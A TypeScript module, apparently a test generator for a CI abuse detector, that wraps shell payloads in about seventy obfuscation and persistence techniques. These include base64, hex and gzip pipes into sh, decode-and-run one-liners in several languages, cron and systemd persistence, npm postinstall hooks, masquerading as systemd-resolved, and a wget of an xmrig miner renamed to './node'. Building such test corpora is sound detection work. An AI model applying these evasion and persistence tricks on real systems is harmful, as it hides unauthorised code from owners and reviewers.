/**
 * Ways to keep words from standing in the open, as campaigns and scripts have them. Each makes a
 * script of a payload; what a technique hides it would hide of anything, so each is tried on
 * innocent payloads too.
 */
import { deflateSync, gzipSync } from 'node:zlib';
import type { Payload } from './payload.ts';

export interface Case {
  /** Lines of a POSIX shell script, bash where it says so. */
  readonly lines: readonly string[];
  /** Variables that the definition sets, not the script. */
  readonly environment?: Readonly<Record<string, string>>;
  /** Files of the same tree. */
  readonly files?: Readonly<Record<string, string>>;
}

export interface Technique {
  readonly name: string;
  readonly hide: (payload: Payload) => Case;
}

export const base64 = (text: string): string => Buffer.from(text).toString('base64');
export const hex = (text: string): string => Buffer.from(text).toString('hex');
export const reverse = (text: string): string => [...text].reverse().join('');
export const quoted = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;

const octal = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('');

const escaped = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('');

const rot13 = (text: string): string =>
  text.replace(/[a-z]/gi, (letter) => {
    const first = letter <= 'Z' ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - first + 13) % 26) + first);
  });

const RELEASE =
  'https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz';

/** A text in pieces of at most `size` characters. */
export function pieces(text: string, size: number): readonly string[] {
  return text.match(new RegExp(`.{1,${size}}`, 'gs')) ?? [];
}

function half(text: string): readonly [string, string] {
  const middle = text.length >> 1;
  return [text.slice(0, middle), text.slice(middle)];
}

export function script(name: string, lines: (payload: Payload) => readonly string[]): Technique {
  return { name, hide: (payload) => ({ lines: lines(payload) }) };
}

export const TECHNIQUES: readonly Technique[] = [
  script('in the open', ({ command }) => [`chmod +x ./*`, command]),

  // Words.
  script('a program name in two variables', ({ program, command }) => {
    const [a, b] = half(program);
    return [`A=${a}`, `B=${b}`, command.replace(program, '$A$B')];
  }),
  script('every argument a variable', ({ command }) => {
    const words = command.split(' ');
    const names = words.map((_, i) => `V${i}`);
    return [
      ...words.map((word, i) => `V${i}=${quoted(word)}`),
      names.map((name) => `$${name}`).join(' '),
    ];
  }),
  script('an endpoint glued from parts', ({ command, endpoint }) => {
    const [scheme = '', rest = ''] = endpoint.split('://');
    const [a, b] = half(rest);
    return [
      `scheme=${scheme}`,
      `host="${a}"`,
      `host+="${b}"`,
      command.replace(endpoint, '"$' + '{scheme}://$' + '{host}"'),
    ];
  }),
  script('quotes inside words', ({ command }) => [
    command.replaceAll(/\b(\w)(\w)(\w{2,})/g, `$1"$2"'$3'`),
  ]),
  script('backslashes inside words', ({ command }) => [
    command.replaceAll(/([A-Za-z])([A-Za-z])(?=[A-Za-z])/g, '$1\\$2'),
  ]),
  script('a continued line', ({ command }) => [command.replaceAll(' ', ' \\\n  ')]),
  script('escapes in $ quotes', ({ command }) => [`eval $'${escaped(command)}'`]),
  script('a replaced letter', ({ command }) => [
    `c=${quoted(command.replaceAll('r', '@'))}`,
    `eval "$` + `{c//@/r}"`,
  ]),
  script('an array joined', ({ command }) => [
    `words=(${command.split(' ').map(quoted).join(' ')})`,
    '"$' + '{words[@]}"',
  ]),
  script('a loop that glues', ({ program, command }) => {
    const parts = pieces(program, 2).map(quoted).join(' ');
    return ['p=', `for part in ${parts}; do p="$p$part"; done`, command.replace(program, '"$p"')];
  }),
  script('an indirect variable', ({ command }) => [
    `tool=${quoted(command)}`,
    'name=tool',
    'eval "$' + '{!name}"',
  ]),
  script('positional parameters', ({ command }) => [
    `set -- ${command.split(' ').map(quoted).join(' ')}`,
    '"$@"',
  ]),
  script('a function', ({ program, command, endpoint }) => [
    `work() { ${command.replace(endpoint, '"$1"').replace(program, '"$2"')}; }`,
    `work ${endpoint} ${program}`,
  ]),

  // Encodings.
  script('base64 into a shell', ({ command }) => [`echo ${base64(command)} | base64 -d | sh`]),
  script('base64 twice', ({ command }) => [
    `echo ${base64(base64(command))} | base64 -d | base64 --decode | bash`,
  ]),
  script('base64 thrice, nested', ({ command }) => {
    const inner = `echo ${base64(command)} | base64 -d | sh`;
    const middle = `echo ${base64(inner)} | base64 -d | sh`;
    return [`echo ${base64(middle)} | base64 -d | sh`];
  }),
  script('base64 in eval', ({ command }) => [`eval "$(echo ${base64(command)} | base64 -d)"`]),
  script('base64 in sh -c', ({ command }) => [
    `sh -c "$(printf %s ${base64(command)} | base64 -d)"`,
  ]),
  script('base64 in a variable', ({ command }) => [
    `blob=${base64(command)}`,
    'run=$(echo "$blob" | base64 -d)',
    'bash -c "$run"',
  ]),
  script('base64 split over lines', ({ command }) => [
    `cat <<'END' | base64 -d | sh`,
    ...pieces(base64(command), 40),
    'END',
  ]),
  script('openssl', ({ command }) => [`echo ${base64(command)} | openssl base64 -d -A | sh`]),
  script('hexadecimal', ({ command }) => [`echo ${hex(command)} | xxd -r -p | sh`]),
  script('printf in hexadecimal', ({ command }) => [`printf '${escaped(command)}' | sh`]),
  script('printf in octal', ({ command }) => [`printf '${octal(command)}' | bash`]),
  script('echo -e', ({ command }) => [`echo -e '${escaped(command)}' | bash`]),
  script('gzip', ({ command }) => [
    `echo ${gzipSync(command).toString('base64')} | base64 -d | gunzip | sh`,
  ]),
  script('gzip, by zcat', ({ command }) => [
    `base64 -d <<< ${gzipSync(command).toString('base64')} | zcat | bash`,
  ]),
  script('reversed', ({ command }) => [`echo ${quoted(reverse(command))} | rev | sh`]),
  script('rot13', ({ command }) => [
    `echo ${quoted(rot13(command))} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`,
  ]),
  script('sed', ({ command }) => [
    `text=${quoted(command.replaceAll('r', '%').replaceAll('o', '!'))}`,
    `echo "$text" | sed 's/%/r/g; s/!/o/g' | sh`,
  ]),
  script('cut', ({ command }) => [`echo ${quoted(`skip|${command}`)} | cut -d'|' -f2 | sh`]),
  script('here-string', ({ command }) => [`bash <<< ${quoted(command)}`]),
  script('here-document', ({ command }) => ["bash <<'END'", command, 'END']),
  script('process substitution', ({ command }) => [`bash <(echo ${base64(command)} | base64 -d)`]),
  script('xargs', ({ program, command }) => [
    `echo ${quoted(command.slice(program.length + 1))} | xargs ${program}`,
  ]),

  // Other languages.
  script('python, base64', ({ command }) => [
    `python3 -c "import os,base64;os.system(base64.b64decode('${base64(command)}').decode())"`,
  ]),
  script('python, bytes', ({ command }) => [
    `python3 -c "import os; os.system(bytes.fromhex('${hex(command)}').decode())"`,
  ]),
  script('python, a list of words', ({ command }) => [
    `python3 -c "import subprocess; subprocess.run([${command
      .split(' ')
      .map((word) => `'${word}'`)
      .join(', ')}])"`,
  ]),
  script('python, zlib', ({ command }) => [
    "python3 - <<'END'",
    'import zlib, base64, os',
    `data = "${deflateSync(command).toString('base64')}"`,
    'os.system(zlib.decompress(base64.b64decode(data)).decode())',
    'END',
  ]),
  script('perl', ({ command }) => [
    `perl -MMIME::Base64 -e 'system(decode_base64("${base64(command)}"))'`,
  ]),
  script('ruby', ({ command }) => [
    `ruby -rbase64 -e 'system(Base64.decode64("${base64(command)}"))'`,
  ]),
  script('node', ({ command }) => [
    `node -e "${[
      `const text = Buffer.from('${base64(command)}', 'base64').toString()`,
      "require('child_process').execSync(text)",
    ].join('; ')}"`,
  ]),
  script('php', ({ command }) => [`php -r 'system(base64_decode("${base64(command)}"));'`]),
  script('powershell', ({ command }) => [
    `pwsh -EncodedCommand ${Buffer.from(command, 'utf16le').toString('base64')}`,
  ]),
  script('awk', ({ command }) => [`awk 'BEGIN { system("${command}") }'`]),

  // Names and ways to start.
  script('a release under another name', ({ program, command }) => [
    `wget -qO- ${RELEASE} | tar xz`,
    'mv xmrig-6.21.0/xmrig ./node',
    command.replace(program, './node'),
  ]),
  script('under the name of a daemon', ({ program, command }) => [
    `cp ${program} /tmp/systemd-resolved`,
    command.replace(program, 'nohup /tmp/systemd-resolved').concat(' > /dev/null 2>&1 &'),
    'sleep 3300',
  ]),
  script('exec -a', ({ command }) => [`(exec -a runner ${command})`]),
  script('limits around it', ({ command }) => [
    `timeout 50m nice -n 19 taskset -c 0,1 ${command} || true`,
  ]),
  script('in a screen', ({ command }) => [`screen -dmS build ${command}`, 'sleep 3500']),
  script('by cron', ({ command }) => [`(crontab -l; echo "* * * * * ${command}") | crontab -`]),
  script('as a service', ({ command }) => [
    "cat > /etc/systemd/system/agent.service <<'END'",
    '[Service]',
    `ExecStart=${command}`,
    'END',
    'systemctl start agent',
  ]),
  script('in a trap', ({ command }) => [`trap ${quoted(command)} EXIT`, 'echo done']),
  script('in a branch', ({ command }) => [
    'if [ "$(nproc)" -gt 1 ]; then',
    `  case $(uname -m) in x86_64) ${command} ;; esac`,
    'fi',
  ]),
  script('in a container', ({ command }) => [`docker run --rm -d alpine sh -c ${quoted(command)}`]),

  // Configurations.
  script('a configuration beside a renamed program', ({ configuration }) => [
    "cat > settings.json <<'END'",
    configuration,
    'END',
    './runner -c settings.json',
  ]),
  script('an encoded configuration', ({ configuration }) => [
    `echo ${base64(configuration)} | base64 -d > config.json`,
    './agent --config=config.json',
  ]),

  // Values from elsewhere in the definition, files of the tree.
  {
    name: 'the login in the environment',
    hide: ({ command, login }) => ({
      lines: [command.replace(login, '"$DEPLOY_USER"')],
      environment: { DEPLOY_USER: login },
    }),
  },
  {
    name: 'the whole command in the environment',
    hide: ({ command }) => ({
      lines: ['eval "$(echo "$BUILD_CACHE" | base64 -d)"'],
      environment: { BUILD_CACHE: base64(command) },
    }),
  },
  {
    name: 'a script of the tree',
    hide: ({ command }) => ({
      lines: ['chmod +x ci/build.sh', './ci/build.sh'],
      files: { 'ci/build.sh': `#!/bin/bash\nset -e\n${command}\n` },
    }),
  },
  {
    name: 'a script that runs a script, with arguments',
    hide: ({ command, login }) => ({
      lines: [`bash ci/prepare.sh ${login}`],
      files: {
        'ci/prepare.sh': '#!/bin/bash\ncd "$(dirname "$0")/.."\nbash ci/work.sh "$1"\n',
        'ci/work.sh': `#!/bin/bash\n${command.replace(login, '"$1"')}\n`,
      },
    }),
  },
  {
    name: 'a target of make',
    hide: ({ command }) => ({
      lines: ['make check'],
      files: { Makefile: `all:\n\tcc -o app app.c\n\ncheck: all\n\t@${command}\n` },
    }),
  },
  {
    name: 'a script of npm',
    hide: ({ command }) => ({
      lines: ['npm ci', 'npm run verify'],
      files: {
        'package.json': JSON.stringify({ name: 'app', scripts: { verify: command } }, null, 2),
      },
    }),
  },
  {
    name: 'an install script of npm',
    hide: ({ command }) => ({
      lines: ['npm ci'],
      files: {
        'package.json': JSON.stringify({ name: 'app', scripts: { postinstall: command } }, null, 2),
      },
    }),
  },
  {
    name: 'a program in Python',
    hide: ({ command }) => ({
      lines: ['python3 tools/test.py'],
      files: {
        'tools/test.py': [
          'import subprocess',
          `ARGS = ${JSON.stringify(command.split(' '))}`,
          'subprocess.run(ARGS)\n',
        ].join('\n\n'),
      },
    }),
  },
  {
    name: 'a program in Python, encoded',
    hide: ({ command }) => ({
      lines: ['python3 tools/test.py'],
      files: {
        'tools/test.py': [
          'import base64, os',
          `DATA = "${base64(command)}"`,
          'os.system(base64.b64decode(DATA).decode())\n',
        ].join('\n\n'),
      },
    }),
  },
  {
    name: 'a program in JavaScript',
    hide: ({ command }) => ({
      lines: ['node tools/test.js'],
      files: {
        'tools/test.js': [
          "const { execSync } = require('node:child_process');",
          `execSync(${JSON.stringify(command)});\n`,
        ].join('\n\n'),
      },
    }),
  },
  {
    name: 'an encoded file of the tree',
    hide: ({ command }) => ({
      lines: ['base64 -d assets/logo.txt | sh'],
      files: { 'assets/logo.txt': `${base64(command)}\n` },
    }),
  },
  {
    name: 'settings that a script sources',
    hide: ({ command, endpoint, login }) => ({
      lines: [
        'source ./ci/settings.env',
        command.replace(endpoint, '"$TARGET"').replace(login, '"$OWNER"'),
      ],
      files: { 'ci/settings.env': `TARGET=${endpoint}\nOWNER=${login}\n` },
    }),
  },
  {
    name: 'an image that is built',
    hide: ({ command }) => ({
      lines: ['docker build -t app .', 'docker run --rm app'],
      files: { Dockerfile: `FROM debian:12\nCOPY . /app\nWORKDIR /app\nRUN ${command}\n` },
    }),
  },
];
